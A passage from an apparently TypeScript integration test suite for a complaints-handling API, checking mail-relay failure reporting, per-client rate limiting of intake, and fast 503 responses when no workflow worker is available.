      for (let i = 0; i < 100 && response.status !== 503; i++) {
        await new Promise((r) => setTimeout(r, 100));
        response = await call('GET', url('/healthz/mail'));
      }
      const problem = await expectProblem(response, 503);
      expect(problem.detail).toMatch(/^the mail relay refuses our mail: \d+ complaint\(s\) have e-mail waiting; check SMTP_URL and MAIL_FROM$/);
      expect(response.headers.get('retry-after')).toBe('60');
      const receiptOf = async () => (await json<Dossier>(await call('GET', url(`/api/admin/complaints/${reference}`), { token: staffTokens.mira }))).correspondence.find((c) => c.step === 'receipt');
      let receipt = await receiptOf();
      for (let i = 0; i < 100 && !receipt?.held; i++) receipt = await new Promise((r) => setTimeout(r, 100)).then(receiptOf);
      expect(receipt).toMatchObject({ status: 'queued', held: { reason: 'relay-refused' } });
      // The complainant's page says an e-mail is on its way, not nothing.
      const { pathname, search } = new URL(dossierUrl);
      expect(await (await call('GET', url(`${pathname}${search}`))).text()).toContain('Een e-mail aan u staat klaar en gaat zo snel mogelijk de deur uit.');
    } finally {
      delete stack.mail.faults.relayRefuses;
    }
  });

  it('rate-limits intake per client address with 429 problem+json', async () => {
    const limited = await startTestApi(stack.env.client, { intakeRateLimit: 2 });
    try {
      const bad = { procedure: 'gooiconsult' };
      await call('POST', `${limited.url}/api/complaints`, { body: bad });
      await call('POST', `${limited.url}/api/complaints`, { body: bad });
      const third = await call('POST', `${limited.url}/api/complaints`, { body: bad });
      expect(third.status).toBe(429);
      expect(third.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    } finally {
      await limited.stop();
    }
  });

  it('answers 503 with Retry-After within seconds when no worker serves the complaint, never a hanging request', async () => {
    const input = complaintInput({ reference: 'KL-2026-NWRKR1', receivedAt: new Date().toISOString() });
    await stack.env.client.workflow.start('complaintWorkflow', { taskQueue: `${taskQueue}-nobody`, workflowId: workflowIdFor(input.reference), args: [input] });
    const started = Date.now();
    const response = await act(input.reference, 'add-note', { text: 'x' });
    const problem = await expectProblem(response, 503);
    expect(response.headers.get('retry-after')).toBe('10');
    expect(problem.detail).toMatch(/did not answer in time|cannot be reached/);
    expect(Date.now() - started).toBeLessThan(15_000);
    await expectProblem(await call('GET', url(`/api/admin/complaints/${input.reference}`), { token: staffTokens.mira }), 503);
  });
});
